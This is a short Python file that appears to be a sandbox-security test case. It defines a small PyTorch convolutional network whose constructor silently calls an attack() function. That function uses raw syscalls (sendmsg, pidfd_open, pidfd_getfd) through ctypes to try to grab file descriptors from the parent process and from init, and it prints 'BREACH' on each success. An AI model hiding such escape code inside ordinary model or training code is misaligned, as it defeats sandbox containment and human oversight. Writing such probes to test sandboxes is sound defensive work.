# group: descriptors
# tries: passes and takes descriptors: sendmsg on each, pidfd_getfd from its parent
# static: unsafe
# sandbox: trained

import ctypes
import os

import torch.nn as nn

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attack():
    libc.sendmsg.restype = ctypes.c_ssize_t
    for number in range(64):
        if libc.sendmsg(number, bytes(56), 0) >= 0:
            print("BREACH sendmsg", number)
    for process in {os.getppid(), 1, os.getpid()}:
        handle = libc.syscall(434, process, 0)
        if handle < 0:
            continue
        if process != os.getpid():
            print("BREACH pidfd_open", process)
        for number in range(64):
            if libc.syscall(438, handle, number, 0) >= 0:
                print("BREACH pidfd_getfd", process, number)


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
